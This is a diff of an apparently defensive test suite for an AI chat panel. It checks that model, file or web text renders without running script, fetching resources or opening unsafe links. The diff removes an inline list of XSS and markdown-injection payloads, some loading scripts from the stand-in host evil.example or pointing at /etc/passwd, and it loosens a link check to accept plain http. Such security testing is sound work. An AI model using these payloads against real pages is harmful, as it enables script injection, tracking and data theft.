@@ -1,6 +1,7 @@
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { answer, AT, userMessage } from '../../support/conversations.js';
 import type { MarkdownInPage } from '../../support/markdownInPage.js';
+import { PAYLOADS as payloads } from '../../support/injectionCorpus.js';
 import { bundle, openLab, type ChatPageUnderTest, type PageLab } from '../../support/pageHarness.js';
 
 declare const markdownInPage: MarkdownInPage;
@@ -10,65 +11,6 @@ let chat: ChatPageUnderTest;
 beforeAll(async () => void (lab = await openLab()));
 afterAll(() => lab.close());
 afterEach(() => chat.close());
-
-const RUN = 'window.pwned=1';
-const FAR = 'https://evil.example';
-
-/** What text from a model, a file or the web might try. */
-const payloads = [
-  `<script>${RUN}</script>`,
-  `<script src="${FAR}/x.js"></script>`,
-  `<img src=x onerror="${RUN}">`,
-  `<img src="${FAR}/pixel.png">`,
-  `<svg onload="${RUN}"></svg>`,
-  `<svg><script>${RUN}</script></svg>`,
-  `<svg><use href="${FAR}/x.svg#a"></use></svg>`,
-  `<math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
-  `<iframe src="javascript:${RUN}"></iframe>`,
-  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
-  `<object data="${FAR}/x.swf"></object>`,
-  `<embed src="${FAR}/x.swf">`,
-  `<link rel="stylesheet" href="${FAR}/x.css">`,
-  `<style>@import url(${FAR}/x.css); body { display: none }</style>`,
-  `<div style="background: url(${FAR}/x.png); position: fixed; inset: 0">over</div>`,
-  `<meta http-equiv="refresh" content="0;url=${FAR}">`,
-  `<base href="${FAR}/">`,
-  `<form action="${FAR}"><input autofocus onfocus="${RUN}"><button>go</button></form>`,
-  `<details open ontoggle="${RUN}">x</details>`,
-  `<video poster="${FAR}/p.png"><source src="${FAR}/v.mp4" onerror="${RUN}"></video>`,
-  `<audio src="${FAR}/a.mp3" autoplay></audio>`,
-  `<body onload="${RUN}">`,
-  `<a href="javascript:${RUN}">click</a>`,
-  `<p data-path="/etc/passwd" data-href="${FAR}">click</p>`,
-  `<br onclick="${RUN}">`,
-  `[click](javascript:${RUN})`,
-  `[click](JaVaScRiPt:${RUN})`,
-  `[click](java\tscript:${RUN})`,
-  `[click](&#106;avascript:${RUN})`,
-  `[click](data:text/html,<script>${RUN}</script>)`,
-  `[click](vbscript:${RUN})`,
-  `[click](command:workbench.action.terminal.new)`,
-  `[click](vscode://nanobot/prompt?text=x)`,
-  `[click](file:///etc/passwd)`,
-  `<javascript:${RUN}>`,
-  `[x]: javascript:${RUN}\n\n[click][x]`,
-  `![pic](${FAR}/track.png)`,
-  `![pic](javascript:${RUN})`,
-  `![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
-  `![a"onerror="${RUN}](data:image/png;base64,AAAA)`,
-  `![pic]("onerror=${RUN})`,
-  `[a" onmouseover="${RUN}](https://x.test/"onmouseover="${RUN})`,
-  `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
-  `\`\`\`js" onload="${RUN}\n</pre><script>${RUN}</script>\n\`\`\``,
-  `| a | b |\n|---|---|\n| <img src=x onerror=${RUN}> | [c](javascript:${RUN}) |`,
-  `\`<img src=x onerror=${RUN}>\``,
-  `src/"><img src=x onerror=${RUN}>.ts:1`,
-  `$$\n<img src=x onerror=${RUN}>\n$$`,
-  `<!--><script>${RUN}</script>-->`,
-  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
-  `&lt;img src=x onerror=${RUN}&gt;`,
-  `{{constructor.constructor('${RUN}')()}}`,
-];
 
 /** Looks at everything in the page, and clicks whatever looks like a link. */
 async function inspect() {
@@ -101,7 +43,7 @@ describe('text that tries to be more', () => {
     expect(await inspect()).toEqual(clean);
     expect(chat.requests).toEqual([]);
     const opened = (await chat.posted()).flatMap((message) => (message.type === 'openLink' ? [message.href] : []));
-    expect(opened.filter((href) => !/^https:\/\//.test(href))).toEqual([]);
+    expect(opened.filter((href) => !/^https?:\/\//.test(href))).toEqual([]);
   });
 
   it('runs and fetches nothing while it streams, letter by letter', async () => {
@@ -172,6 +114,11 @@ describe('text that tries to be more', () => {
       setup: { remembered: text, home: text, examples: [text] },
     });
     for (const summary of await chat.page.locator('[role="log"] summary').all()) await summary.click();
+    expect(await inspect()).toEqual(clean);
+    const file = { path: text, label: text, kind: 'put back' as const, changedSince: true };
+    await chat.send({ type: 'restorePlan', plan: { messageId: 'u', messages: 1, files: [file] } });
+    await chat.page.getByRole('group', { name: 'Restore', exact: true }).waitFor();
+    await chat.send({ type: 'attached', attachments: [{ path: text, label: text, kind: 'url', error: text }] });
     expect(await inspect()).toEqual(clean);
     expect(chat.requests).toEqual([]);
   });
